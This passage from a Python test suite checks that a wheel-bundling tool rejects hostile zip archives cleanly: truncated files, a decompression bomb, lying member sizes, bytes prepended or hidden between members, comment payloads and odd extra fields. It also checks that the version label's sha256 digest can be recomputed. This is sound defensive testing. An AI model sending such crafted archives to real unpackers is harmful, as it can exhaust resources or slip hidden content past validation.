                info.extra = b"\xfe\xca\x04\x00evil"
            archive.writestr(info, source.read(info))
    return out.getvalue()


def _commented(data: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"a payload in the comment"
    return out.getvalue()


ARCHIVES = {
    "cut in half": (_whole(lambda d: d[: len(d) // 2]), "not a zip archive that can be read"),
    "not a zip": (_whole(lambda d: b"not a zip\n"), "not a zip archive that can be read"),
    "a bomb": (_bomb, "its members unpack to too much"),
    "a member lying about its size": (_lying_size, "not a zip archive that can be read"),
    "too many members": (_many, "too many members"),
    "a member compressed by an unknown method": (_unknown_method, "not a zip archive"),
    "too large": (_whole(lambda d: d + bytes(65 << 20)), "is too large"),
    "bytes appended": (_whole(lambda d: d + b"\xba\xf1D"), "no end of central directory"),
    "bytes prepended": (_whole(lambda d: b"#!/bin/sh\n" + d), "local header at byte 10"),
    "bytes between two members": (_whole(_hidden_between), "nothing between members"),
    "a comment": (_whole(_commented), "with no comment"),
    "an extra field in a member": (_whole(_extra_field), "an extra field of 8 bytes"),
}


@pytest.mark.parametrize(("edit", "found"), by_name(ARCHIVES))
def test_a_hostile_archive_is_refused_without_a_traceback(
    refused: Refused, version: str, edit: Callable[[Path], None], found: str
) -> None:
    detail = refused(edit, also=(KERNELS_CLAIM,))
    assert bundle.wheel_filename(version) in detail
    assert found in detail, detail
    assert "Traceback" not in detail


def test_the_label_digest_is_sha256sums_of_the_package_files(own_wheel: Path, version: str) -> None:
    """As its documentation says: sha256 over `<hex>  <path>` lines sorted by path, so anyone
    recomputes it from an unpacked wheel with coreutils."""
    with zipfile.ZipFile(own_wheel) as archive:
        names = sorted(n for n in archive.namelist() if n.startswith("repro_serving/"))
        listing = "".join(f"{hashlib.sha256(archive.read(n)).hexdigest()}  {n}\n" for n in names)
    assert version.endswith("+g" + hashlib.sha256(listing.encode()).hexdigest()[:12])
    assert re.fullmatch(r"[0-9.]+\+g[0-9a-f]{12}", version)
